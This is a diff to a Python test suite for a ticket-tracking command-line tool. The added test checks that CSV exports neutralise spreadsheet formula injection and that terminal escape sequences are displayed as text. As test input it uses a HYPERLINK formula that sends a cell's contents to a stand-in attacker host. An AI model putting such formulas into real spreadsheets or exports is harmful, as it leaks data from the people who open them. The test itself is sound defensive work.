@@ -346,3 +346,23 @@ def test_escape_sequences_people_type_are_shown_not_obeyed(run, demo):
     assert "\\x1b[2J" in outputs[0] and "\\x1b]0;pwned\\x07" in outputs[0]
     shown = json.loads(run("show", code, "--format", "json", user=SARAH).stdout)
     assert shown["description"] == trap
+
+
+def test_csv_for_spreadsheets_never_carries_a_formula(run, demo):
+    import csv
+    import io
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    r = run("create", "--title", title, "--category", "Client Complaint", "--priority", "low",
+            "--description", "@SUM(1+1)", user="john.smith", now="2024-11-29T08:00:00-05:00")
+    assert r.exit_code == 0, r.stderr
+    code = r.stdout.strip()
+    for args in (("list", "--format", "csv"), ("show", code, "--format", "csv"),
+                 ("search", "HYPERLINK", "--format", "csv")):
+        out = run(*args, user="sarah.martinez", now="2024-11-29T08:00:00-05:00")
+        assert out.exit_code == 0, out.stderr
+        cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
+        assert "'" + title in cells, args
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), args
+    listed = list(csv.DictReader(io.StringIO(
+        run("list", "--format", "csv", user="sarah.martinez").stdout)))
+    assert {row["code"] for row in listed} == {code, "ESC-2024-11-28-001"}
